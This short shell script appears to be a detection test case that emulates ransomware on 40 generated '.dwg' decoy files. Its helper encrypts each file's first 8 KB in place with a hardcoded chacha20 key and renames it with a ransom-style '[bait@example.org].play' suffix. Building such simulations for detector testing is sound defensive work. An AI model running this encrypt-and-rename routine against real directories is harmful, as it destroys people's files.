#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/share
for i in $(seq 1 40); do head -c 60000 /dev/urandom >"/srv/share/plan $i.dwg"; done
cat >/tmp/h.sh <<'END'
for f; do
    dd if="$f" bs=4k count=2 status=none | openssl enc -chacha20 -K 00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff -iv 00112233445566778899aabbccddeeff | dd of="$f" bs=4k conv=notrunc status=none
    mv "$f" "$f.[bait@example.org].play"
done
END
find /srv/share -type f -name '*.dwg' -exec sh /tmp/h.sh {} +
test "$(ls /srv/share/*.play | wc -l)" = 40
took_place
